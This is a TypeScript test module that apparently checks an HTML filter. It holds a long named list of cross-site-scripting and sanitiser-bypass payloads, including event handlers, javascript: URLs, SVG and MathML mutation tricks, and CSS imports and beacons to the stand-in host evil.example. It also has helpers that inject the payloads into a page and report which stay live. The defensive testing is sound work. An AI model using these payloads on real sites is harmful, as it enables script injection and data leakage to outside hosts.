/** Markup that would run or call out if a copy of it were shown as it is: what filters of HTML have been broken with before. */

const evil = 'https://evil.example';
const js = 'javascript:run()';
/** Closes `end` early and then runs. */
const out = (end: string) => `${end}<img src=x onerror=run()>`;

/** By name; `run()` and every address on evil.example stand for what must not happen. */
export const hostileMarkup: Record<string, string> = {
  'script': '<script>run()</script>',
  'script-src': `<script src="${evil}/a.js"></script>`,
  'script-module': `<script type="module">import("${evil}/m.js")</script>`,
  'img-onerror': '<img src="x:x" onerror="run()">',
  'img-onload': `<img src="${evil}/a.png" onload="run()">`,
  'img-srcset': `<img srcset="${evil}/b.png 2x" sizes="100vw">`,
  'picture-source': `<picture><source srcset="${evil}/c.png"><img src="${evil}/d.png" loading="lazy"></picture>`,
  'img-odd-quotes': '<img """><script>run()</script>">',
  'img-slashes': '<img/src="x:x"/onerror="run()">',
  'odd-attribute-names': '<b a"b="1" <c="2" \'d=3 @click="run()" on<x=run()>odd</b>',
  'odd-element-name': '<x"y onmouseover="run()">odd</x"y>',
  'svg-onload': '<svg onload="run()"></svg>',
  'svg-script': '<svg><script>run()</script></svg>',
  'svg-script-href': `<svg><script href="${evil}/s.js"/></svg>`,
  'svg-animate-onbegin': '<svg><animate onbegin="run()" attributeName="x" dur="1s"/></svg>',
  'svg-animate-href': `<svg><a><animate attributeName="href" values="${js}" begin="0s"/><text x="9" y="9">press</text></a></svg>`,
  'svg-set-handler': '<svg><rect width="9" height="9"><set attributeName="onmouseover" to="run()"/></rect></svg>',
  'svg-use-data': '<svg><use href="data:image/svg+xml,%3Csvg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'%3E%3Cscript%3Erun()%3C/script%3E%3C/svg%3E#x"/></svg>',
  'svg-use-other': `<svg><use xlink:href="${evil}/u.svg#x"/></svg>`,
  'svg-image': `<svg><image href="${evil}/i.png" width="9" height="9"/><feImage xlink:href="${evil}/f.png"/></svg>`,
  'svg-foreign-object': `<svg><foreignObject><iframe src="${js}"></iframe><body onload="run()"></foreignObject></svg>`,
  'svg-style-import': `<svg><style>@import "${evil}/s.css";</style></svg>`,
  'svg-handler': '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">run()</handler></svg>',
  'svg-xlink': `<svg><a xlink:href="${js}"><text x="9" y="9">press</text></a></svg>`,
  'svg-data-image': '<img src="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/2000/svg\' onload=\'run()\'/%3E">',
  'math-href': `<math href="${js}"><mi>press</mi></math>`,
  'math-maction': `<math><maction actiontype="statusline" xlink:href="${js}"><mi>press</mi></maction></math>`,
  'link-javascript': `<a href="${js}">press</a>`,
  'link-javascript-tab': '<a href=" java&#9;script:run()">press</a>',
  'link-javascript-capitals': '<a href="JaVaScRiPt:run()">press</a>',
  'link-data': '<a href="data:text/html,<script>run()</script>">press</a>',
  'link-vbscript': '<a href="vbscript:run()">press</a>',
  'link-blob': '<a href="blob:https://x.com/0000">press</a>',
  'link-ping': `<a href="#here" ping="${evil}/ping">press</a>`,
  'link-download': `<a download="x.html" href="${js}">press</a>`,
  'area': `<map name="m"><area href="${js}" shape="rect" coords="0,0,9,9"></map><img usemap="#m" src="x:x">`,
  'iframe-srcdoc': '<iframe srcdoc="<script>parent.run()</script>"></iframe>',
  'iframe-javascript': `<iframe src="${js}"></iframe>`,
  'iframe-other': `<iframe src="${evil}/frame" onload="run()"></iframe>`,
  'frameset': `<frameset onload="run()"><frame src="${evil}/f"></frameset>`,
  'object': `<object data="data:text/html,<script>run()</script>"><param name="src" value="${js}"></object>`,
  'embed': `<embed src="${evil}/e.svg" type="image/svg+xml">`,
  'applet': `<applet code="${evil}/a.class" codebase="${evil}"></applet>`,
  'portal': `<portal src="${evil}/p"></portal><fencedframe src="${evil}/ff"></fencedframe>`,
  'meta-refresh': `<meta http-equiv="refresh" content="600;url=${evil}/r">`,
  'meta-policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'base': `<base href="${evil}/" target="_top">`,
  'link-stylesheet': `<link rel="stylesheet" href="${evil}/l.css" onload="run()">`,
  'link-preload': `<link rel="preload" as="image" href="${evil}/p.png"><link rel="prefetch" href="${evil}/n"><link rel="modulepreload" href="${evil}/m.js">`,
  'link-preconnect': `<link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="manifest" href="${evil}/m.json">`,
  'form-action': `<form action="${js}"><input type="submit" autofocus onfocus="run()"></form>`,
  'button-formaction': `<form><button formaction="${js}">press</button></form>`,
  'input-image': `<input type="image" src="${evil}/i.png" onerror="run()" formaction="${js}">`,
  'details': '<details open ontoggle="run()"><summary>press</summary>x</details>',
  'marquee': '<marquee onstart="run()" behavior="alternate">x</marquee>',
  'video': `<video src="${evil}/v.mp4" autoplay poster="${evil}/p.png" onloadstart="run()"><source src="${evil}/w.mp4" onerror="run()"><track src="${evil}/t.vtt" default></video>`,
  'audio': `<audio src="${evil}/a.mp3" autoplay oncanplay="run()"></audio>`,
  'style-import': `<style>@import url("${evil}/i.css"); body{background:url(${evil}/b.png)}</style>`,
  'style-font': `<style>@font-face{font-family:evil;src:url(${evil}/f.woff2)} .evil{font-family:evil}</style><i class="evil">x</i>`,
  'style-attribute': `<i style="background:url(${evil}/s1.png);cursor:url(${evil}/s2.cur),auto;list-style:url('${evil}/s3.png')">x</i>`,
  'style-escaped': `<i style="background:\\75\\72\\6c(${evil}/s4.png);--hidden:u\\72 l(${evil}/s5.png);background-image:var(--hidden)">x</i>`,
  'style-image-set': `<i style="background:image-set('${evil}/s6.png' 1x);--set:image-set(&quot;${evil}/s7.png&quot; 1x);border-image-source:var(--set)">x</i>`,
  'style-expression': `<i style="width:expression(run());-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc)">x</i>`,
  'style-end': '<style>a{content:"</style><img src=x onerror=run()>"}</style>',
  'table-background': `<table background="${evil}/t.png"><tr><td background="${evil}/td.png">x</td></tr></table>`,
  'template': '<template><script>run()</script><img src=x onerror=run()></template>',
  'custom-element': `<x-evil onclick="run()" is="x-more"></x-evil><button is="x-button" onclick="run()">x</button>`,
  'popover': '<div popover id="pop" onbeforetoggle="run()">x</div><button popovertarget="pop">press</button>',
  'content-editable': '<div contenteditable autofocus onfocus="run()" tabindex="0">x</div>',
  'conditional-comment': '<!--[if gte IE 4]><script>run()</script><![endif]-->x',
  'comment-end': '<!--><img src=x onerror=run()>--><!-- --!><img src=x onerror=run()> -->',
  'cdata': '<svg><![CDATA[</svg><img src=x onerror=run()>]]></svg>',
  'noscript-title': `<noscript><p title="${out('</noscript>')}"></noscript>`,
  'title-title': `<title><p title="${out('</title>')}"></title>`,
  'textarea-title': `<textarea><p title="${out('</textarea>')}"></textarea>`,
  'math-style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">`,
  'svg-style': `<svg></p><style><a id="${out('</style>')}">`,
  'form-math': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="${out('</style>')}">`,
  'math-annotation': `<math><annotation-xml encoding="text/html"><style><img title="${out('</style>')}"></style></annotation-xml></math>`,
  'select-template': '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=run()>"></a>',
  'svg-desc': `<svg><desc><style><a title="${out('</style>')}"></style></desc></svg>`,
  'xmp': `<xmp><p title="${out('</xmp>')}"></xmp>`,
  'noembed': `<noembed><p title="${out('</noembed>')}"></noembed><noframes>${out('</noframes>')}</noframes>`,
};

/** How many more `putHostile` makes node by node, as no parser would. */
export const madeByScript = 10;

/** Puts each into a box of its own inside `place`, and more that only a script can make. Answers how many were put. Runs in the page. */
export function putHostile(place: Element, markup: Record<string, string>): number {
  const box = (name: string) => {
    const made = document.createElement('div');
    made.dataset.trick = name;
    place.append(made);
    return made;
  };
  const entries = Object.entries(markup);
  for (const [name, html] of entries) box(name).innerHTML = html;
  const breaks = (tag: string, end = tag) => {
    const element = document.createElement(tag);
    element.append(document.createTextNode(`</${end}><img src=x onerror=run()>`));
    box(`made-${tag}`).append(element);
  };
  for (const tag of ['xmp', 'plaintext', 'noembed', 'noframes', 'noscript', 'style', 'iframe']) breaks(tag);
  const inside = document.createElement('textarea');
  inside.append(Object.assign(document.createElement('b'), { title: '</textarea><img src=x onerror=run()>' }));
  box('made-textarea').append(inside);
  box('made-comment').append(document.createComment('--><img src=x onerror=run()><!--'), document.createProcessingInstruction('xml-stylesheet', 'href="javascript:run()"'));
  const host = box('made-shadow');
  host.attachShadow({ mode: 'open' }).innerHTML = markup['img-onerror']! + markup['link-javascript']! + markup['style-import']! + markup['iframe-srcdoc']!;
  const template = document.createElement('template');
  template.setAttribute('shadowrootmode', 'open');
  template.innerHTML = '<img src=x onerror=run()>';
  box('made-template').append(template);
  return entries.length;
}

/** Does to everything in a replayed copy what a person might, links out of it aside; answers what could still act. Runs in the page. */
export function stirUp(): string[] {
  const live: string[] = [];
  const look = (root: Document | ShadowRoot) => {
    for (const element of root.querySelectorAll<HTMLElement>('*')) {
      if (element.shadowRoot) look(element.shadowRoot);
      if (/^(script|iframe|frame|object|embed|applet|portal|fencedframe|link|base|source|track|template|animate|set|handler)$/.test(element.localName)) live.push(element.localName);
      for (const { name, value } of element.attributes) {
        if (/^on|^(srcdoc|formaction|action|ping|srcset|autofocus)$/.test(name)) live.push(name);
        if (/^(href|xlink:href|src|poster|background)$/.test(name) && !/^(#|https?:|mailto:|data:image\/|$)/.test(value)) live.push(`${name}=${value}`);
        if (/^(src|poster)$/.test(name) && !value.startsWith('data:image/')) live.push(`${name}=${value}`);
        if (name.endsWith('href') && !/^(a|area)$/.test(element.localName) && !/^(#|data:image\/)/.test(value)) live.push(`${element.localName} ${name}=${value}`);
        if (/http-equiv/.test(name) && /refresh|set-cookie/i.test(value)) live.push(value);
      }
      if (element.closest('a[href^="http"]')) continue;
      for (const type of ['mouseover', 'pointerdown', 'click', 'focus', 'toggle', 'load', 'error', 'animationstart']) {
        element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
      }
    }
  };
  look(document);
  return live;
}
